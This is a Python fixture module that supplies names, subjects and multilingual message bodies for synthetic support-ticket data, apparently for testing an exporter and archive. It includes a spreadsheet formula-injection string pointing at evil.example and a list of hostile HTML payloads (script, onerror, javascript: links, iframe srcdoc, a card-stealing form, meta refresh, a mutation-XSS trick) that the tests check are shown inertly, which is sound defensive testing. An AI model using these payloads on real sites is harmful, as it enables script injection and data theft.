"""The words the generated data is made of: names, subjects and message bodies.

TRICKY_BODIES holds what customers really type and what breaks exporters: every script, emoji
sequences, CR/LF and lone CR, quotes, commas, tabs, and text a spreadsheet would run as a formula.
"""

from __future__ import annotations

# (language code, text); the language ends up on tickets whose first message uses it.
TRICKY_BODIES: tuple[tuple[str, str], ...] = (
    ("ja", "ご注文の商品がまだ届いていません。追跡番号を教えていただけますか？"),
    ("ar", "مرحبا، لم يصل طلبي بعد. هل يمكنكم مساعدتي في تتبع الشحنة؟"),
    ("ru", "Здравствуйте! Мой заказ №4521 пришёл повреждённым. Верните, пожалуйста, деньги."),
    ("hi", "नमस्ते, मेरा ऑर्डर अभी तक नहीं आया है। कृपया मदद करें।"),
    ("zh", "你好，我想退货，请问怎么操作？谢谢！"),
    ("ko", "안녕하세요, 배송이 언제 도착하나요?"),
    ("he", "שלום, ההזמנה שלי לא הגיעה עדיין."),
    ("el", "Γεια σας, η παραγγελία μου δεν έφτασε ακόμα."),
    ("th", "สวัสดีครับ สินค้ายังไม่มาถึงเลยครับ"),
    ("fr", "Bonjour, ma commande n'est pas arrivée… Très déçue. Cordialement, Zoë Lefèvre-Müller"),
    ("de", "Grüße aus München! Die Größe passt nicht, ich möchte sie umtauschen."),
    ("es", "¡Hola! ¿Señor Núñez? El pedido llegó roto; quiero un reembolso."),
    ("pl", "Dzień dobry, przesyłka do Łodzi nie dotarła. Żółć, gęślą jaźń."),
    ("da", "Hej, Åsa Ørsted her. Pakken er væk."),
    ("en", "Thanks so much!! 🙏😀 👩‍💻 is on it 👨‍👩‍👧‍👦 🇫🇷🇯🇵 🏳️‍🌈 👍🏽"),
    ("en", "Line one\r\nLine two\r\n\r\nLine four after a blank line"),
    ("en", "old mac line endings:\rsecond line\rthird line"),
    ("en", 'He said "it\'s broken", then left, angry, "really" broken, again.'),
    ("en", "order\tqty\tprice\n1234\t2\t19.99\n5678\t1\t5,00"),
    ("en", '=HYPERLINK("http://evil.example/?x=1","click me")'),
    ("en", "=1+2"),
    ("en", "+1 (555) 010-9999 call me back please"),
    ("en", "-- not a signature, just dashes; balance is -42"),
    ("en", "@support can someone look at this?"),
    ("en", "bell\x07 backspace\x08 vertical\x0btab form\x0cfeed \x1b[31mred\x1b[0m"),
    ("en", "zero\u200bwidth, rtl\u200fmark, bom\ufeff, line\u2028separator, para\u2029sep"),
    ("en", 'C:\\Users\\bob\\orders.csv and {"json": true, "n": [1, 2]}'),
    ("en", "<script>alert('x')</script> & <b>not html</b> &amp; 5 < 6 > 4"),
)

PLAIN_BODIES: tuple[str, ...] = (
    "Hi, I ordered last week and still have not received a shipping confirmation.",
    "Could you tell me when my order will arrive? The tracking page shows no update.",
    "The item I received is the wrong size. How do I exchange it?",
    "I was charged twice for the same order, please refund one of the payments.",
    "Can I change the delivery address on my order?",
    "The package arrived damaged. I attached a photo.",
    "Do you ship to Canada? If so, how long does it take?",
    "I would like to cancel my subscription before the next billing date.",
    "My discount code does not work at checkout.",
    "Is this product available in blue?",
    "Thank you, that solved it!",
    "I still have not heard back about my refund.",
)

AGENT_BODIES: tuple[str, ...] = (
    "Hi there, thanks for reaching out! I have checked your order and it shipped yesterday.",
    "Sorry about that. I have issued a full refund; it should appear within 5-10 business days.",
    "Thanks for your patience. I have updated the address on your order.",
    "I have sent you a prepaid return label by email.",
    "Could you send us your order number so that we can look into it?",
    "Happy to help! Your subscription is cancelled and you will not be charged again.",
    "The code has expired, but I have applied the discount to your order manually.",
)

INTERNAL_NOTES: tuple[str, ...] = (
    "Customer is a VIP, please prioritise.",
    "Checked with the warehouse: parcel lost, reship approved.",
    "Refund approved by @maria.",
    "Possible fraud, do not refund before review.",
)

SUBJECTS: tuple[str, ...] = (
    "Where is my order?",
    "Refund request",
    "Wrong size received",
    "Damaged package",
    "Change of address",
    "Question about shipping",
    "Subscription cancellation",
    "Discount code not working",
    "Commande #4521 – problème",
    "注文について",
    "Re: Re: Fwd: your order, again",
    "Invoice, please",
)

FIRST_NAMES: tuple[str, ...] = (
    "Alice",
    "Bob",
    "Chloé",
    "Dmitri",
    "Emma",
    "François",
    "Grace",
    "Hiroshi",
    "Ines",
    "José",
    "Kai",
    "Łukasz",
    "Maria",
    "Noor",
    "Olivia",
    "Priya",
    "Søren",
    "Tomás",
    "Yuki",
    "Zoë",
)

LAST_NAMES: tuple[str, ...] = (
    "Smith",
    "García",
    "Müller",
    "Nguyen",
    "Kowalski",
    "Ivanov",
    "Tanaka",
    "Haddad",
    "Rossi",
    "Dubois",
    "Sharma",
    "O'Connor",
    "van der Berg",
    "Johansson",
    "Chen",
)

AGENT_NAMES: tuple[tuple[str, str], ...] = (
    ("Maria", "Lopez"),
    ("Sam", "Taylor"),
    ("Aisha", "Bello"),
    ("Kenji", "Sato"),
    ("Léa", "Martin"),
    ("Tom", "Baker"),
)

TEAMS: tuple[str, ...] = ("Tier 1", "Returns & Refunds", "VIP")

TAGS: tuple[tuple[str, str | None], ...] = (
    ("refund", "#e74c3c"),
    ("shipping", "#3498db"),
    ("vip", "#f1c40f"),
    ("urgent", None),
    ("exchange", "#2ecc71"),
    ("billing", None),
    ("wismo", "#9b59b6"),
    ("fraud-check", "#34495e"),
)

ATTACHMENT_NAMES: tuple[tuple[str, str], ...] = (
    ("photo.jpg", "image/jpeg"),
    ("facture, mars 2024.pdf", "application/pdf"),
    ("Screenshot 2024-05-01 at 10.12.33.png", "image/png"),
    ("写真.heic", "image/heic"),
    ('receipt "final".txt', "text/plain"),
)

HTML_ONLY_BODY = (
    "<div><p>Hello &amp; welcome to &lt;Acme&gt; support!</p>"
    '<p>It&#39;s&nbsp;fine&nbsp;&mdash; see <a href="https://example.com/?a=1&amp;b=2">this '
    "link</a>.</p><br><table><tr><td>Order</td><td>#4521</td></tr></table>"
    "<blockquote>On Monday you wrote: &quot;where is it?&quot;</blockquote></div>"
)


def huge_body(size: int = 200_000) -> str:
    """A body of about `size` characters mixing scripts, so it is large in bytes as well."""
    chunk = 'Log line, 日本語, русский, عربى, emoji 👩‍💻, quote " and tab\t end.\r\n'
    return (chunk * (size // len(chunk) + 1))[:size]


# HTML bodies that try to run script, reach the network, submit, redirect or change the page:
# what an archive must show inertly. Each would set the title to "pwned", add an element with id
# "pwned", or fetch from `remote.example`. (case, markup)
HOSTILE_HTML_BODIES: tuple[tuple[str, str], ...] = (
    ("script", "<p>before</p><script>document.title='pwned'</script><p>after</p>"),
    (
        "onerror",
        "<img src=x onerror=\"document.body.insertAdjacentHTML('beforeend','<b id=pwned>')\">",
    ),
    ("remote image", '<p>logo:</p><img src="http://remote.example/pixel.png?open=1" alt="logo">'),
    (
        "form",
        '<form action="http://remote.example/steal" method="post"><input name="card">'
        "<button>Pay</button></form>",
    ),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://remote.example/">hi'),
    ("javascript link", "<a href=\"javascript:document.title='pwned'\">open your order</a>"),
    (
        "iframe",
        '<iframe src="http://remote.example/frame" '
        "srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    ),
    (
        "css url",
        '<div style="background:url(http://remote.example/bg.png);color:red">styled</div>'
        "<style>body{background:url(http://remote.example/style.png)}</style>",
    ),
    (
        "svg script",
        "<svg onload=\"document.title='pwned'\"><script>document.title='pwned'</script>"
        '<image href="http://remote.example/svg.png"/></svg>',
    ),
    ("base href", '<base href="http://remote.example/"><a href="order">relative link</a>'),
    (
        "mutation",
        "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\"></p>"
        '</noscript><object data="http://remote.example/o"></object>'
        '<link rel="stylesheet" href="http://remote.example/x.css">',
    ),
)
# All of them, after the HTML-only e-mail's own body: one message, so that adding them drew
# nothing from the random stream (every seed's dataset is otherwise the one it was).
HOSTILE_HTML = "".join(f"<div>{case}: {markup}</div>" for case, markup in HOSTILE_HTML_BODIES)
